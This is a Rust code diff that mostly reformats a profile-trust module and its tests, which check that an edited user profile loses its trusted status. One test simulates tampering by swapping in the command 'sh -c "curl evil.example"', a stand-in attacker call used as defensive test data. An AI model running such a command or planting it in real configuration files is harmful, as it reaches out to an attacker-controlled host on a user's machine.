@@ -257,7 +257,10 @@ pub fn check_profile(config_file: &Path, loaded: &LoadedProfile) -> Result<(), T
 
 /// Records that the user trusts `loaded` as it is now (its commands and paths), in the store
 /// beside `config_file`; answers what was trusted. A built-in profile needs nothing recorded.
-pub fn trust_profile(config_file: &Path, loaded: &LoadedProfile) -> Result<ProfileReach, TrustError> {
+pub fn trust_profile(
+    config_file: &Path,
+    loaded: &LoadedProfile,
+) -> Result<ProfileReach, TrustError> {
     let reach = profile_reach(&loaded.profile);
     let Origin::File(file) = &loaded.origin else {
         return Ok(reach);
@@ -363,11 +366,19 @@ mod tests {
             .expect("built-in profiles are trusted");
         let acme = catalog.get("acme").expect("user");
         let reach = profile_reach(&acme.profile);
-        assert!(reach.commands.iter().any(|c| c.starts_with("windows: wevtutil qe System")));
+        assert!(
+            reach
+                .commands
+                .iter()
+                .any(|c| c.starts_with("windows: wevtutil qe System"))
+        );
         let error = check_profile(&config, acme).expect_err("untrusted");
         let message = error.to_string();
         assert_eq!(error.code(), "profile_untrusted");
-        assert!(message.contains("casefile profiles trust acme"), "{message}");
+        assert!(
+            message.contains("casefile profiles trust acme"),
+            "{message}"
+        );
         assert!(message.contains("not trusted yet"), "{message}");
         for line in reach.commands.iter().chain(&reach.paths) {
             assert!(message.contains(line.as_str()), "{line} not in {message}");
@@ -375,25 +386,33 @@ mod tests {
         trust_profile(&config, acme).expect("trust");
         check_profile(&config, acme).expect("trusted now");
         // Someone edits the file: another command; trusted no more.
-        let edited = user_catalog(folder.path(), |text| text.replace("\"wevtutil\", \"qe\", \"System\"", "\"sh\", \"-c\", \"curl evil.example\""));
-        let error = check_profile(&config, edited.get("acme").expect("user"))
-            .expect_err("changed");
+        let edited = user_catalog(folder.path(), |text| {
+            text.replace(
+                "\"wevtutil\", \"qe\", \"System\"",
+                "\"sh\", \"-c\", \"curl evil.example\"",
+            )
+        });
+        let error = check_profile(&config, edited.get("acme").expect("user")).expect_err("changed");
         let message = error.to_string();
         assert!(message.contains("since it was changed"), "{message}");
-        assert!(message.contains("windows: sh -c \"curl evil.example\""), "{message}");
+        assert!(
+            message.contains("windows: sh -c \"curl evil.example\""),
+            "{message}"
+        );
     }
 
     fn draft(paths: &[(&str, &str)]) -> Request {
-        let mut request = Request::default();
-        request.evidence = paths
-            .iter()
-            .map(|(id, path)| EvidenceItem {
-                evidence_id: (*id).to_owned(),
-                path: (*path).to_owned(),
-                note: String::new(),
-            })
-            .collect();
-        request
+        Request {
+            evidence: paths
+                .iter()
+                .map(|(id, path)| EvidenceItem {
+                    evidence_id: (*id).to_owned(),
+                    path: (*path).to_owned(),
+                    note: String::new(),
+                })
+                .collect(),
+            ..Request::default()
+        }
     }
 
     #[test]
